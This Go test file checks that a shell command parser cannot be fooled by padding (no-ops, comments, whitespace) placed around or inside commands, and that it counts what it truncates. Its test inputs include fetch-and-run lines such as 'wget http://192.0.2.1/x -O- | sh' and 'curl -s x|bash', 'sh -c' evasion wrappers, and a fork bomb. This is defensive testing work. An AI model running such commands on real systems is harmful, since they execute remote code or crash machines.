package shell

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

// padding is what costs an attacker nothing and means nothing to a shell, some size bytes of each.
func padding(size int) map[string]string {
	units := map[string]string{
		"no-ops": ":;", "spaced no-ops": ": ; ", "true": "true && ", "either": "true||:\n", "background": ":&",
		"no-ops with words": ": a=b *.c 12;", "quoted words": ": \"a b\" \"c;d|e\" ;", "false": "false x || ", "by path": "/bin/true -x\n",
		"comments": "# a; b `c` $(d\n", "blanks": " ", "tabs and newlines": "\t \n", "escaped newlines": "\\\n",
	}
	pads := map[string]string{
		"a comment":       "#" + strings.Repeat("x", size) + "\n",
		"a quote comment": "# don't " + strings.Repeat("\"", size) + "\n",
		"piped no-ops":    strings.Repeat(":|", size/2) + ":;",
	}
	for name, unit := range units {
		pads[name] = strings.Repeat(unit, size/len(unit))
	}
	return pads
}

// TestPaddingCostsNothing puts padding before lines that each reader takes, and inside a text that a shell is given.
func TestPaddingCostsNothing(t *testing.T) {
	lines := []string{
		"wget http://192.0.2.1/x -O- | sh", `echo "a  b" 'c  #d' > /tmp/x; cat e#f`, "if a; then wget $(b); fi", "a 'open", "cat <<E | sh\n  wget  x\nE\n",
		"x=$#; echo $'a  \\'b' \\  c", "a >&2  2>&1; b &>f; c >|g", "curl -s x|bash",
	}
	p := NewParser()
	for name, pad := range padding(200 << 10) {
		for _, line := range lines {
			var want, got View
			p.Parse(line, &want)
			p.Parse(pad+line, &got)
			if d := cmp.Diff(want, got, sameView, cmpopts.IgnoreFields(View{}, "words")); d != "" {
				t.Errorf("%s before %q changes the view (-want +got):\n%s", name, line, d)
			}
		}
	}
	for name, pad := range padding(40 << 10) {
		var v View
		p.Parse("ls; sh -c '"+strings.ReplaceAll(pad, "'", "")+"wget x'", &v)
		if n := len(v.Commands); n != 3 || v.Commands[2].Text != "wget x" || v.Truncated {
			t.Errorf("%s inside sh -c: %d commands, truncated %v, want 3 with wget last", name, n, v.Truncated)
		}
	}
}

func TestPaddingBehind(t *testing.T) {
	p := NewParser()
	for name, pad := range padding(200 << 10) {
		var v View
		p.Parse("wget x\n"+pad, &v)
		if len(v.Commands) != 1 || v.Truncated {
			t.Errorf("%s behind wget: commands %+v, truncated %v, want wget alone", name, v.Commands, v.Truncated)
		}
	}
}

func TestLeftOutIsCounted(t *testing.T) {
	tests := []struct {
		name            string
		line            string
		commands, bytes int
	}{
		{"nothing", "a; b", 0, 0},
		{"commands", strings.Repeat("a;", MaxCommands+7), 7, 0},
		{"commands of loose text", strings.Repeat("a;", MaxCommands+7) + "'", 8, 0},
		{"beyond what is lexed", strings.Repeat("a;", 5000), 5000 - MaxCommands, 0},
		{"beyond what is lexed, loose", strings.Repeat("a;", 5000) + "b 'c", 5001 - MaxCommands, 0},
		{"in a tree", "if x; then " + strings.Repeat("a;", 2000) + " fi", 2001 - MaxCommands, 0},
		{"commands that others run", strings.Repeat("sudo a;", MaxCommands), MaxCommands / 2, 0},
		{"bytes", "echo " + strings.Repeat("a", MaxInput), 0, len("echo ")},
		{"bytes of an inner text", "sh -c '" + strings.Repeat("a", 40<<10) + "'; sh -c '" + strings.Repeat("b", 20<<10) + "'; echo " + strings.Repeat("c", 10) + " | sh", 0, 0},
		{"bytes of a computed text", "echo " + strings.Repeat("a", 40<<10) + " | rev | sh", 0, 2*(40<<10+1) - MaxDecoded},
		{"no-ops are none", strings.Repeat("a;", MaxCommands) + strings.Repeat(":;", 2000), 0, 0},
		{"a function of that name is", ":(){ :|:& };:", 0, 0},
	}
	p := NewParser()
	for _, tt := range tests {
		var v View
		p.Parse(tt.line, &v)
		if v.CommandsLeftOut != tt.commands || v.BytesLeftOut != tt.bytes || v.Truncated != (tt.commands+tt.bytes > 0) {
			t.Errorf("%s: left out %d commands and %d bytes, truncated %v, want %d and %d", tt.name, v.CommandsLeftOut, v.BytesLeftOut, v.Truncated, tt.commands, tt.bytes)
		}
	}
}
